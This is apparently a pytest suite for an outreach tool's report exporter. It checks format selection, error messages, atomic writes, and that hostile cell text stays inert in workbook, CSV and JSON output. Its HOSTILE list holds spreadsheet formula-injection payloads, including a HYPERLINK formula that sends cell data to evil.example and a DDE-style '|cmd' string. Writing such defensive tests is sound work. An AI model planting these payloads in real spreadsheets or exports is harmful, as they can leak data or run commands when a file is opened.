"""A report as a file: the suffix decides, hostile text is harmless in all formats, and nothing is left half-done."""

import csv
import errno
import io
import json
import os
import zipfile
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import openpyxl
import pytest
from invented_campaign import MADE, add_campaign, add_event, add_message, add_response, members
from sqlalchemy import Engine
from sqlmodel import Session

from outreach.campaigns.plan import get_campaign
from outreach.database import reading, writing
from outreach.errors import NotFoundError, UserError
from outreach.missions.collation import sort_key
from outreach.models import Mission, ResponseChange
from outreach.reports import source
from outreach.reports.excel.report_columns import MISSION_COLUMNS
from outreach.reports.excel.safe_cells import CUT, LONGEST, clean
from outreach.reports.export import report
from outreach.reports.log import Event
from outreach.reports.status import status
from outreach.vocabulary import EventKind, Language, MessageState

NAME = "renew-the-mandate"
SUFFIXES = (".xlsx", ".csv", ".json")
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1",
    "-1+1|cmd",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "yes;=1+1",
    "＝1+1",
    "bell \x07 null \x00 escape \x1b[31m",
    "\ufffe\uffff\x85",
    "=" + "x" * 40_000,
    "🕊️" * 12_000,
    "مرحبا \u202eevil\u202c",
    "שלום, world",
    "</t></is></c><c><f>1+1</f></c>",
    "]]>&amp;&#0;",
    "_x003D_1+1",
    "#REF!",
    "1e5",
    '"quoted", and ""twice""',
    " spaces around ",
    "one\r\ntwo\nthree",
)


def _codes() -> Iterator[str]:
    return (f"Z{number:02d}" for number in range(len(HOSTILE)))


def _fill_hostile(session: Session) -> None:
    campaign = add_campaign(session, "=cmd&P&N", reason='=HYPERLINK("x")', letter="@letter")
    for iso3, text in zip(_codes(), HOSTILE, strict=True):
        mission = Mission(
            iso3=iso3,
            short_name=text,
            formal_name=text,
            regional_group=text[:200],
            language=Language.ENGLISH,
            tags=[],
        )
        session.add(mission)
        session.flush()
        response = add_response(session, campaign, iso3, note=text)
        message = add_message(
            session, campaign, iso3, text, state=MessageState.FAILED, reason=text, smtp_reply=f"550 {text}"
        )
        add_event(session, message, EventKind.REFUSED, MADE, recipient=text, detail=text, who=text, status=text[:20])
        session.add(ResponseChange(response_id=response.id, at=MADE, who=text, field="note", old=text, new=text))


@pytest.fixture
def hostile(engine: Engine) -> Engine:
    with writing(engine) as session:
        _fill_hostile(session)
    return engine


@pytest.mark.heavy
@pytest.mark.parametrize("suffix", SUFFIXES)
def test_the_suffix_decides_whatever_its_case(varied: Engine, tmp_path: Path, suffix: str) -> None:
    out = tmp_path / f"report{suffix.upper()}"
    assert report(varied, NAME, out, made_at=MADE) == out
    start = out.read_bytes()[:4]
    assert start == {".xlsx": b"PK\x03\x04", ".csv": b"\xef\xbb\xbfI", ".json": b"{\n  "}[suffix]


@pytest.mark.parametrize("name", ["report.docx", "report", "report.xls", ".xlsx"])
def test_another_suffix_is_refused_with_the_known_ones_named(varied: Engine, tmp_path: Path, name: str) -> None:
    with pytest.raises(UserError, match=r"\.xlsx, \.pdf, \.csv or \.json"):
        report(varied, NAME, tmp_path / name)
    assert not (tmp_path / name).exists()


@pytest.mark.parametrize("suffix", SUFFIXES)
def test_an_unknown_campaign_writes_nothing(varied: Engine, tmp_path: Path, suffix: str) -> None:
    before = sorted(tmp_path.iterdir())
    with pytest.raises(NotFoundError, match="nowhere"):
        report(varied, "nowhere", tmp_path / f"r{suffix}")
    assert sorted(tmp_path.iterdir()) == before


@pytest.mark.heavy
def test_csv_is_the_missions_sheet(varied: Engine, tmp_path: Path) -> None:
    content = report(varied, NAME, tmp_path / "r.csv", made_at=MADE).read_bytes()
    assert content.startswith(b"\xef\xbb\xbf")
    lines = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    shared = [column for column in MISSION_COLUMNS if not column.workbook_only]
    assert list(lines[0]) == [column.header for column in shared]
    assert [line["ISO3"] for line in lines] == [
        iso3 for iso3, *_ in sorted(members(), key=lambda one: sort_key(one[3], Language.ENGLISH))
    ]
    sheet = openpyxl.load_workbook(report(varied, NAME, tmp_path / "r.xlsx", made_at=MADE))["Missions"]
    for line, cells in zip(lines, sheet.iter_rows(min_row=2, values_only=True), strict=True):
        both = [value for value, column in zip(cells, MISSION_COLUMNS, strict=True) if column in shared]
        shown = [value.strftime("%Y-%m-%d %H:%M") if isinstance(value, datetime) else value for value in both]
        assert list(line.values()) == ["" if value is None else str(value) for value in shown]


def test_json_holds_status_missions_and_log(varied: Engine, tmp_path: Path) -> None:
    found = json.loads(report(varied, NAME, tmp_path / "r.json", made_at=MADE).read_text(encoding="utf-8"))
    head = ["campaign", "letter", "as_of", "time_zone", "made_at", "resolution"]
    assert list(found) == [*head, "status", "since", "missions", "log"]
    with reading(varied) as session:
        assert found["status"] == status(session, get_campaign(session, NAME)).as_dict() | {"stage": "scheduled"}
    assert (found["campaign"], found["as_of"], found["made_at"]) == (NAME, "2024-03-18", "2024-03-25T13:30:00Z")
    assert len(found["missions"]) == 47
    albania = found["missions"][0]
    assert (albania["iso3"], albania["sent_at"], albania["language"]) == ("ALB", "2024-03-18T08:00:00Z", "en")
    assert albania["recipients"] == ["office.alb@mission.example", "geneva.alb@mission.example"]
    assert {event["what"] for event in found["log"]} >= {"approved", "accepted", "bounced", "position"}
    assert all(event["at"].endswith("Z") for event in found["log"])


def test_json_of_an_empty_campaign_is_json(engine: Engine, tmp_path: Path) -> None:
    with writing(engine) as session:
        add_campaign(session, "empty")
    found = json.loads(report(engine, "empty", tmp_path / "r.json").read_text(encoding="utf-8"))
    assert (found["missions"], found["log"]) == ([], [])


@pytest.mark.heavy
def test_hostile_text_is_text_in_the_workbook(hostile: Engine, tmp_path: Path) -> None:
    path = report(hostile, "=cmd&P&N", tmp_path / "r.xlsx", made_at=MADE)
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.endswith((".xml", ".rels")):
                root = ET.fromstring(archive.read(name))
                if name.startswith("xl/worksheets/sheet"):
                    tags = {element.tag.rpartition("}")[2] for element in root.iter()}
                    assert "f" not in tags
                    assert "hyperlink" not in tags
    book = openpyxl.load_workbook(path)
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type in {"s", "n", "d"}
                if isinstance(cell.value, str):
                    assert len(cell.value.encode("utf-16-le")) // 2 <= LONGEST
    notes = {row[0].value: row[14] for row in book["Missions"].iter_rows(min_row=2)}
    for iso3, text in zip(_codes(), HOSTILE, strict=True):
        value = notes[iso3].value or ""
        if len(text) > 20_000:
            assert value.endswith(CUT)
            assert text.startswith(value.removesuffix(CUT))
        else:
            assert value == clean(text).replace("_x003D_", "_x005F_x003D_")
        assert notes[iso3].quotePrefix is clean(text).startswith(("=", "+", "-", "@", "\t", "\n", "＝"))
    assert "&&P&&N" in book["Missions"].oddFooter.left.text


def test_hostile_text_is_text_in_csv(hostile: Engine, tmp_path: Path) -> None:
    text = report(hostile, "=cmd&P&N", tmp_path / "r.csv").read_text(encoding="utf-8-sig")
    assert not {"\x00", "\x07", "\x1b", "\u202e"} & set(text)
    lines = list(csv.reader(io.StringIO(text, newline="")))
    assert len(lines) == len(HOSTILE) + 1
    for line in lines:
        assert len(line) == sum(not column.workbook_only for column in MISSION_COLUMNS)
        for cell in line:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))
    assert {line[1] for line in lines} >= {f"'{text}" for text in HOSTILE[:4]}
    assert "🕊️" * 12_000 in text


def test_hostile_text_is_kept_in_json(hostile: Engine, tmp_path: Path) -> None:
    found = json.loads(report(hostile, "=cmd&P&N", tmp_path / "r.json").read_text(encoding="utf-8"))
    assert [row["note"] for row in found["missions"]] == list(HOSTILE)


@pytest.mark.parametrize("suffix", SUFFIXES)
def test_a_missing_folder_is_told(varied: Engine, tmp_path: Path, suffix: str) -> None:
    with pytest.raises(UserError, match=r"There is no folder .*Make it"):
        report(varied, NAME, tmp_path / "nowhere" / f"r{suffix}")
    assert not (tmp_path / "nowhere").exists()


def test_a_folder_or_a_file_in_the_way_is_told(varied: Engine, tmp_path: Path) -> None:
    (tmp_path / "folder.csv").mkdir()
    (tmp_path / "file").write_text("x")
    with pytest.raises(UserError, match="is a folder"):
        report(varied, NAME, tmp_path / "folder.csv")
    with pytest.raises(UserError, match="is a file, not a folder"):
        report(varied, NAME, tmp_path / "file" / "r.csv")


@pytest.mark.parametrize("suffix", SUFFIXES)
def test_a_file_in_use_is_told_and_stays(
    varied: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, suffix: str
) -> None:
    folder = tmp_path / "out"
    folder.mkdir()
    out = folder / f"r{suffix}"
    out.write_text("of last week")

    def refuse(_self: Path, _target: Any) -> Path:
        raise PermissionError(errno.EACCES, "The process cannot access the file")

    monkeypatch.setattr(Path, "replace", refuse)
    with pytest.raises(UserError, match="Close it where it is open"):
        report(varied, NAME, out)
    assert out.read_text() == "of last week"
    assert list(folder.iterdir()) == [out]


@pytest.mark.skipif(os.geteuid() == 0, reason="root may write to every file")
def test_a_write_protected_file_is_told(varied: Engine, tmp_path: Path) -> None:
    out = tmp_path / "r.csv"
    out.write_text("x")
    out.chmod(0o400)
    with pytest.raises(UserError, match="write-protected"):
        report(varied, NAME, out)


@pytest.mark.heavy
@pytest.mark.parametrize("fault", [OSError(errno.ENOSPC, "No space left on device"), RuntimeError("broken off")])
@pytest.mark.parametrize("suffix", [".xlsx", ".json"])
def test_a_failure_midway_leaves_the_old_file_and_nothing_else(
    varied: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, suffix: str, fault: Exception
) -> None:
    folder = tmp_path / "out"
    folder.mkdir()
    out = folder / f"r{suffix}"
    out.write_text("of last week")

    def broken(*_: object) -> Iterator[Event]:
        yield Event(MADE, "FRA", "France", "sent", "", "", "", "worker")
        raise fault

    monkeypatch.setattr(source, "events", broken)
    with pytest.raises((UserError, RuntimeError), match=r"No space left|broken off"):
        report(varied, NAME, out)
    assert out.read_text() == "of last week"
    assert list(folder.iterdir()) == [out]


def test_a_link_is_followed(varied: Engine, tmp_path: Path) -> None:
    (tmp_path / "real.csv").write_text("old")
    (tmp_path / "link.csv").symlink_to(tmp_path / "real.csv")
    report(varied, NAME, tmp_path / "link.csv")
    assert (tmp_path / "link.csv").is_symlink()
    assert (tmp_path / "real.csv").read_text(encoding="utf-8-sig").startswith("ISO3,")
